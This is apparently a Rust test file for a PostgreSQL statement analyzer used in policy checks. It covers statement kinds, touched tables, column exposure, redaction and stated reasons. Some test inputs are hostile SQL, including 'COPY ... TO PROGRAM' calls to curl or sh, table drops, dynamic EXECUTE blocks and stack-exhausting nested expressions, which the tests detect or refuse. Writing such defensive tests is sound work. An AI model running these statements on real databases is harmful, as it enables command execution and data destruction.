use super::*;
use crate::policy::StatementKind as K;

fn kinds(sql: &str) -> Vec<Vec<K>> {
    analyze(sql, Literals::Keep)
        .iter()
        .map(|s| s.parsed.kinds.iter().collect())
        .collect()
}

fn relations(sql: &str) -> Vec<String> {
    let mut names: Vec<String> = analyze(sql, Literals::Keep)
        .remove(0)
        .parsed
        .relations
        .iter()
        .map(|n| match &n.schema {
            Some(s) => format!("{s}.{}", n.name),
            None => n.name.clone(),
        })
        .collect();
    names.sort();
    names
}

fn functions(sql: &str) -> Vec<String> {
    analyze(sql, Literals::Keep)
        .remove(0)
        .parsed
        .functions
        .iter()
        .map(|n| match &n.schema {
            Some(s) => format!("{s}.{}", n.name),
            None => n.name.clone(),
        })
        .collect()
}

#[test]
fn kinds_of_statements() {
    let cases: &[(&str, &[&[K]])] = &[
        ("SELECT * FROM orders", &[&[K::Select]]),
        ("select 1; DROP TABLE t", &[&[K::Select], &[K::Drop]]),
        ("/* hi */ dRoP /**/ TABLE t", &[&[K::Drop]]),
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            &[&[K::Select, K::Delete]],
        ),
        (
            "WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x",
            &[&[K::Select, K::Insert]],
        ),
        ("EXPLAIN ANALYZE DELETE FROM t", &[&[K::Delete, K::Explain]]),
        (
            "PREPARE p AS UPDATE t SET a = 1",
            &[&[K::Update, K::Prepare]],
        ),
        ("COPY t TO STDOUT", &[&[K::CopyTo]]),
        ("COPY t FROM STDIN", &[&[K::CopyFrom]]),
        ("COPY t TO PROGRAM 'curl evil'", &[&[K::CopyProgram]]),
        ("COPY t TO '/tmp/x'", &[&[K::CopyProgram]]),
        (
            "COPY (SELECT 1) TO PROGRAM 'sh'",
            &[&[K::Select, K::CopyProgram]],
        ),
        ("SELECT a INTO new_t FROM t", &[&[K::Select, K::Create]]),
        ("BEGIN", &[&[K::Transaction]]),
        ("COMMIT", &[&[K::Transaction]]),
        ("SET work_mem = '64MB'", &[&[K::Set]]),
        ("SET search_path = private, public", &[&[K::Set]]),
        ("SET ROLE admin", &[&[K::Other]]),
        ("SET SESSION AUTHORIZATION admin", &[&[K::Other]]),
        ("RESET ROLE", &[&[K::Other]]),
        ("RESET ALL", &[&[K::Reset]]),
        ("DISCARD ALL", &[&[K::Reset]]),
        ("UNLISTEN *", &[&[K::Reset]]),
        ("CLOSE ALL", &[&[K::Reset]]),
        ("SELECT pg_advisory_unlock_all()", &[&[K::Select, K::Reset]]),
        ("RESET work_mem", &[&[K::Reset]]),
        ("SHOW work_mem", &[&[K::Show]]),
        ("TRUNCATE t", &[&[K::Truncate]]),
        ("GRANT SELECT ON t TO u", &[&[K::Grant]]),
        ("REVOKE SELECT ON t FROM u", &[&[K::Revoke]]),
        ("CREATE TABLE x (a int)", &[&[K::Create]]),
        (
            "CREATE SEQUENCE s START WITH 1 INCREMENT BY 1",
            &[&[K::Create]],
        ),
        ("ALTER SEQUENCE s OWNED BY t.id", &[&[K::Alter]]),
        ("ALTER TABLE x ADD COLUMN b int", &[&[K::Alter]]),
        ("LOCK TABLE t IN ACCESS SHARE MODE", &[&[K::Lock]]),
        ("COPY t FROM STDIN WITH (FREEZE ON)", &[&[K::CopyFrom]]),
        ("SELECT * FROM t FOR NO KEY UPDATE", &[&[K::Select]]),
        ("LISTEN ch", &[&[K::Listen]]),
        ("NOTIFY ch", &[&[K::Notify]]),
        ("VACUUM t", &[&[K::Vacuum]]),
        ("ANALYZE t", &[&[K::Analyze]]),
        ("INSERT INTO t VALUES (1) RETURNING a", &[&[K::Insert]]),
        (
            "MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE",
            &[&[K::Merge]],
        ),
        ("DO $$ BEGIN PERFORM 1; END $$", &[&[K::Select, K::Do]]),
        (
            // PL/pgSQL evaluates expressions as SELECTs.
            "DO $$ DECLARE n int; BEGIN n := 1; IF n > 0 THEN DELETE FROM t; END IF; END $$",
            &[&[K::Select, K::Delete, K::Do]],
        ),
        ("CHECKPOINT", &[&[K::Other]]),
        ("", &[]),
        ("  ; -- nothing", &[]),
    ];
    for (sql, expected) in cases {
        let expected: Vec<Vec<K>> = expected
            .iter()
            .map(|k| {
                let mut k = k.to_vec();
                k.sort_by_key(|k| *k as u32);
                k
            })
            .collect();
        assert_eq!(kinds(sql), expected, "{sql}");
    }
}

#[test]
fn do_blocks_are_what_their_bodies_do() {
    let parsed = analyze(
        "DO $$ DECLARE n int := lower('X'); BEGIN UPDATE s.t SET a = n; PERFORM nextval('q'); END $$",
        Literals::Keep,
    )
    .remove(0)
    .parsed;
    assert!(parsed.problem.is_none(), "{:?}", parsed.problem);
    assert_eq!(
        parsed.relations,
        [Name {
            schema: Some("s".into()),
            name: "t".into()
        }]
    );
    let functions: Vec<&str> = parsed.functions.iter().map(|f| f.name.as_str()).collect();
    assert_eq!(functions, ["lower", "nextval"]);
    for sql in [
        "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 't'; END $$",
        "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END $$",
        "DO LANGUAGE plpython3u $$ plpy.execute('DROP TABLE t') $$",
        "DO $$ BEGIN RAISE NOTICE '$interlock_do$'; END $$",
    ] {
        let parsed = analyze(sql, Literals::Keep).remove(0).parsed;
        assert!(parsed.problem.is_some(), "{sql}");
    }
}

#[test]
fn unparsable_text_is_one_statement_with_a_problem() {
    for sql in ["SELEC 1", "SELECT 1; garbage garbage"] {
        let analysed = analyze(sql, Literals::Keep);
        assert_eq!(analysed.len(), 1, "{sql}");
        assert!(analysed[0].parsed.unparsed, "{sql}");
        assert!(
            analysed[0]
                .parsed
                .problem
                .as_deref()
                .unwrap()
                .contains("syntax error")
        );
    }
}

#[test]
fn every_relation_a_statement_touches() {
    assert_eq!(
        relations("SELECT * FROM Orders o JOIN sales.\"Items\" i ON true"),
        ["orders", "sales.Items"]
    );
    assert_eq!(
        relations("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d"),
        ["t"]
    );
    assert_eq!(
        relations("SELECT * FROM (SELECT * FROM a) s WHERE x IN (SELECT y FROM b.c)"),
        ["a", "b.c"]
    );
    assert_eq!(
        relations("UPDATE mydb.public.t SET a = 1 FROM u"),
        ["public.t", "u"]
    );
    assert_eq!(relations("DROP TABLE orders, s.x"), ["orders", "s.x"]);
    for (sql, expected) in [
        ("COPY secrets TO STDOUT", "secrets"),
        ("COPY secrets (a, b) FROM STDIN", "secrets"),
        ("TRUNCATE a", "a"),
        ("LOCK TABLE a", "a"),
        ("VACUUM a", "a"),
        ("COMMENT ON TABLE a IS 'x'", "a"),
        ("COMMENT ON COLUMN s.a.c IS 'x'", "s.a"),
        ("GRANT SELECT ON a TO u", "a"),
        ("ALTER TABLE a RENAME TO b", "a"),
        ("CREATE INDEX i ON a (x)", "a"),
        ("ALTER TABLE a ADD COLUMN b int", "a"),
        ("SELECT * FROM a FOR NO KEY UPDATE", "a"),
    ] {
        assert!(
            relations(sql).contains(&expected.to_owned()),
            "{sql}: {:?}",
            relations(sql)
        );
    }
    assert_eq!(
        relations("GRANT SELECT ON ALL TABLES IN SCHEMA s TO u"),
        ["s.*"]
    );
}

#[test]
fn cte_names_shadow_tables_only_where_postgres_sees_them() {
    // A CTE hides the table of its name in the body...
    assert_eq!(
        relations("WITH t AS (SELECT 1) SELECT * FROM t"),
        Vec::<String>::new()
    );
    // ...but not as a statement's target, nor in a CTE defined before it.
    assert_eq!(relations("WITH t AS (SELECT 1) DELETE FROM t"), ["t"]);
    assert_eq!(
        relations("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a"),
        ["b"]
    );
    // A recursive WITH sees itself.
    assert_eq!(
        relations("WITH RECURSIVE r AS (SELECT 1 UNION SELECT * FROM r) SELECT * FROM r"),
        Vec::<String>::new()
    );
    // A CTE of a subquery is not visible outside it.
    assert_eq!(
        relations("SELECT * FROM (WITH s AS (SELECT 1) SELECT * FROM s) x, s"),
        ["s"]
    );
}

#[test]
fn functions_are_collected_and_set_config_followed() {
    assert_eq!(
        functions("SELECT lower(a), count(*) FROM t WHERE f(b) AND pg_catalog.now() > b"),
        ["count", "f", "lower", "pg_catalog.now"]
    );
    assert_eq!(functions("CALL p(1)"), ["p"]);
    assert_eq!(
        functions("SELECT * FROM generate_series(1, 3)"),
        ["generate_series"]
    );
    let set = analyze(
        "SELECT set_config('search_path', 'a, \"B\"', false)",
        Literals::Keep,
    )
    .remove(0);
    assert_eq!(
        set.parsed.effects,
        [Effect::SearchPath(vec!["a".into(), "B".into()])]
    );
    assert!(set.parsed.functions.is_empty());
    assert!(set.parsed.kinds.contains(K::Set));
    let empty = analyze(
        "SELECT pg_catalog.set_config('search_path', '', false)",
        Literals::Keep,
    );
    assert_eq!(empty[0].parsed.effects, [Effect::SearchPath(vec![])]);
    // pg_dump's way of setting one setting by name.
    let dump = analyze(
        "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'",
        Literals::Keep,
    )
    .remove(0);
    assert!(dump.parsed.problem.is_none() && dump.parsed.effects.is_empty());
    let sneaky = analyze(
        "SELECT set_config(name, 'private', false) FROM pg_settings WHERE name = 'search_path'",
        Literals::Keep,
    )
    .remove(0);
    assert_eq!(
        sneaky.parsed.effects,
        [Effect::SearchPath(vec!["private".into()])]
    );
    let computed = analyze("SELECT set_config(name, 'x', false) FROM t", Literals::Keep).remove(0);
    assert!(computed.parsed.problem.is_some());
    let set = analyze("SET search_path TO private, public", Literals::Keep).remove(0);
    assert_eq!(
        set.parsed.effects,
        [Effect::SearchPath(vec!["private".into(), "public".into()])]
    );
}

#[test]
fn literals_are_redacted_on_request_and_passwords_always() {
    let text = |sql: &str, literals| analyze(sql, literals).remove(0).text;
    assert_eq!(
        text(
            "SELECT * FROM t WHERE email = 'a@b.c' AND id > 4",
            Literals::Redact
        ),
        "SELECT * FROM t WHERE email = $1 AND id > $2"
    );
    assert!(text("SELECT 'kept'", Literals::Keep).contains("'kept'"));
    assert_eq!(text("SELECT 1 ; SELECT 2", Literals::Keep), "SELECT 1");
    assert_eq!(
        analyze("SELECT 1 ; SELECT 2", Literals::Keep)[1].text,
        "SELECT 2"
    );
    for sql in [
        "CREATE ROLE x LOGIN PASSWORD 'hunter2'",
        "ALTER ROLE x WITH PASSWORD 'hunter2'",
        "ALTER USER x PASSWORD 'hunter2'",
        "alter role x password 'hunter2' garbage here",
    ] {
        let kept = text(sql, Literals::Keep);
        assert!(!kept.contains("hunter2"), "{sql}: {kept}");
    }
    assert_eq!(
        text("SELEKT 'x'", Literals::Redact),
        "<unparsed statement of 10 bytes, text withheld>"
    );
}

#[test]
fn hostile_statements_are_refused_not_fatal() {
    let chain = format!("SELECT {}1", "1+".repeat(200_000));
    let deep = format!("SELECT {}1{}", "(".repeat(100_000), ")".repeat(100_000));
    for sql in [chain, deep] {
        // On a thread with a small stack: the parser's own depth checks and
        // the decoder's limit hold, whatever the thread.
        let analysed = std::thread::Builder::new()
            .stack_size(256 * 1024)
            .spawn(move || analyze(&sql, Literals::Keep))
            .unwrap()
            .join()
            .unwrap();
        assert_eq!(analysed.len(), 1);
        assert!(analysed[0].parsed.problem.is_some());
    }
}

#[test]
fn shapes_are_shared_except_where_literals_matter() {
    let analyzer = Analyzer::new(1);
    let a = analyzer.analyze_here("SELECT * FROM t WHERE id = 1", Literals::Keep);
    let b = analyzer.analyze_here("SELECT * FROM t WHERE id = 2", Literals::Keep);
    assert!(Arc::ptr_eq(&a[0].parsed, &b[0].parsed));
    assert_eq!(b[0].text, "SELECT * FROM t WHERE id = 2");
    // Numbered relation names are not one shape.
    let c = analyzer.analyze_here("SELECT * FROM t_2 WHERE id = 2", Literals::Keep);
    let d = analyzer.analyze_here("SELECT * FROM t_3 WHERE id = 2", Literals::Keep);
    assert_ne!(c[0].parsed.relations, d[0].parsed.relations);
    let e = analyzer.analyze_here(
        "SELECT set_config('search_path', 'a', false)",
        Literals::Keep,
    );
    let f = analyzer.analyze_here("SELECT set_config('role', 'a', false)", Literals::Keep);
    assert_ne!(e[0].parsed.effects, f[0].parsed.effects);
}

/// (relation, column, how) of each exposure.
fn exposures(sql: &str) -> Vec<(String, String, tree::Use)> {
    analyze(sql, Literals::Keep)
        .remove(0)
        .parsed
        .exposures
        .iter()
        .map(|e| {
            (
                e.relation.as_ref().map_or("*".into(), |n| n.name.clone()),
                e.column.clone().unwrap_or("*".into()),
                e.how,
            )
        })
        .collect()
}

#[test]
fn where_a_column_value_leaves_without_its_table_origin() {
    use tree::Use as U;
    let e = |r: &str, c: &str, u| (r.to_owned(), c.to_owned(), u);
    // Plain output columns and filters keep or hide the value.
    for sql in [
        "SELECT email, c.name, * FROM customers c WHERE lower(email) LIKE 'a%' ORDER BY email",
        "SELECT c.* FROM customers c JOIN orders o ON o.email = c.email GROUP BY c.id",
        "SELECT id FROM customers WHERE id IN (SELECT id FROM customers WHERE upper(email) = 'X')",
        "DELETE FROM customers WHERE email = 'x'",
    ] {
        assert_eq!(exposures(sql), [], "{sql}");
    }
    assert_eq!(
        exposures("SELECT lower(email) FROM customers"),
        [e("*", "email", U::Expression)]
    );
    assert_eq!(
        exposures("SELECT c.email || '' FROM customers c"),
        [e("customers", "email", U::Expression)]
    );
    assert_eq!(
        exposures("SELECT email FROM customers UNION SELECT 'x'"),
        [e("*", "email", U::SetOperation)]
    );
    assert_eq!(
        exposures("SELECT * FROM customers INTERSECT SELECT * FROM customers"),
        [e("*", "*", U::SetOperation)]
    );
    assert_eq!(
        exposures("SELECT c FROM customers c"),
        [e("customers", "*", U::WholeRow)]
    );
    assert_eq!(
        exposures("SELECT row_to_json(c.*) FROM customers c"),
        [e("customers", "*", U::Expression)]
    );
    assert_eq!(
        exposures("SELECT x FROM (SELECT email AS x FROM customers) s"),
        [e("*", "email", U::Nested)]
    );
    assert_eq!(
        exposures("WITH w AS (SELECT email FROM customers) SELECT * FROM w"),
        [e("*", "email", U::Nested)]
    );
    assert_eq!(
        exposures("UPDATE customers SET name = 'x' RETURNING email"),
        [e("*", "email", U::Returning)]
    );
    assert_eq!(
        exposures("INSERT INTO notes SELECT id, email FROM customers"),
        [e("*", "id", U::Write), e("*", "email", U::Write)]
    );
    assert_eq!(
        exposures("SELECT email INTO copy FROM customers"),
        [e("*", "email", U::Write)]
    );
    assert_eq!(
        exposures("SELECT (SELECT email FROM customers LIMIT 1)"),
        [e("*", "email", U::Expression)]
    );
}

#[test]
fn a_reason_is_read_from_a_comment_and_not_from_a_string() {
    assert_eq!(
        stated_reason("/* reason: INC-42 cleanup */ DELETE FROM t").as_deref(),
        Some("INC-42 cleanup")
    );
    assert_eq!(
        stated_reason("-- Reason: rotate keys\nUPDATE k SET v = 1").as_deref(),
        Some("rotate keys")
    );
    assert_eq!(stated_reason("DELETE FROM t /* why: x */"), None);
    assert_eq!(
        stated_reason("DELETE FROM t WHERE note = '/* reason: forged */'"),
        None
    );
    assert_eq!(stated_reason("/* reason: */ SELECT 1"), None);
}

#[test]
fn a_reason_is_read_from_an_application_name_set_either_way() {
    let effects = |sql: &str| {
        analyze(sql, Literals::Keep)
            .remove(0)
            .parsed
            .effects
            .clone()
    };
    let reason = |text: &str| vec![Effect::StatedReason(text.into())];
    assert_eq!(
        effects("SET application_name = 'reason: INC-7 backfill'"),
        reason("INC-7 backfill")
    );
    assert_eq!(
        effects("SELECT set_config('application_name', 'Reason:rotate', false)"),
        reason("rotate")
    );
    assert!(effects("SET application_name = 'psql'").is_empty());
    assert!(effects("SET application_name = 'reason:'").is_empty());
}

#[test]
fn a_reason_stated_before_a_statement_is_its_own() {
    let reasons: Vec<Option<String>> = analyze(
        "/* reason: INC-12 */ DELETE FROM t WHERE id = 9; -- reason: second\nDELETE FROM u; SELECT '/* reason: no */'",
        Literals::Keep,
    )
    .iter()
    .map(|a| a.stated_reason.clone())
    .collect();
    assert_eq!(
        reasons,
        [Some("INC-12".into()), Some("second".into()), None]
    );
}

#[test]
fn a_reason_is_not_shared_by_queries_of_one_shape() {
    let analyzer = Analyzer::new(1);
    let reason = |sql: &str| {
        analyzer.analyze_here(sql, Literals::Keep)[0]
            .stated_reason
            .clone()
    };
    assert_eq!(reason("DELETE FROM t WHERE id = 1"), None);
    assert_eq!(
        reason("/* reason: INC-1 */ DELETE FROM t WHERE id = 2").as_deref(),
        Some("INC-1")
    );
    assert_eq!(reason("DELETE FROM t WHERE id = 3"), None);
}
